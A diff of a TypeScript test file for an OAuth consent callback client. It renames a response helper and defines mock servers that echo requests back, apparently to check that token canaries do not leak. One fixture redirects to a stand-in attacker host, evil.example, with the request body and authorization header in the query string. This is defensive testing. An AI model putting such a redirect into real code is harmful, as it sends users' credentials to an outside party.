@@ -1,16 +1,16 @@
 import { inspect } from 'node:util'
 import { expect, it, onTestFinished, vi } from 'vitest'
 import { readParameters } from '../../src/client/consent/callback.ts'
-import { answer, json, type Received, type Reply } from '../endpoints/server.ts'
+import { respond, json, type Received, type Reply } from '../endpoints/server.ts'
 import { canary, spellings } from './canaries.ts'
 import { faultyStore } from './faulty-store.ts'
 import { connect, withoutJitter, startSetup, minute, startConsent, type Setup } from './setup.ts'
 
 const bodyOf = ({ body, headers }: Received) => `${body} ${headers.authorization ?? ''}`
 
-/** Answers that quote the request, as some servers and proxies do. */
+/** Responses that quote the request, as some servers and proxies do. */
 const quotingReplies: Record<string, (access: string, refresh: string) => Reply> = {
-  'a valid answer': (access_token, refresh_token) =>
+  'a valid response': (access_token, refresh_token) =>
     json({
       access_token,
       refresh_token,
@@ -19,7 +19,7 @@ const quotingReplies: Record<string, (access: string, refresh: string) => Reply>
       status: 'success',
     }),
   'HTML that quotes': () => (response, request) =>
-    answer(`<html>${bodyOf(request)}`)(response, request),
+    respond(`<html>${bodyOf(request)}`)(response, request),
   'an error that quotes': () => (response, request) =>
     json({ error: bodyOf(request) })(response, request),
   'a throttle that quotes': () => (response, request) =>
@@ -29,9 +29,10 @@ const quotingReplies: Record<string, (access: string, refresh: string) => Reply>
     ),
   'an error with more text': () => (response, request) =>
     json({ error: 'invalid_code', was: bodyOf(request) }, 400)(response, request),
-  'a 500 that quotes': () => (response, request) => answer(bodyOf(request), 500)(response, request),
+  'a 500 that quotes': () => (response, request) =>
+    respond(bodyOf(request), 500)(response, request),
   'a redirect that quotes': () => (response, request) =>
-    answer('', 307, { location: `https://evil.example/?${encodeURIComponent(bodyOf(request))}` })(
+    respond('', 307, { location: `https://evil.example/?${encodeURIComponent(bodyOf(request))}` })(
       response,
       request,
     ),
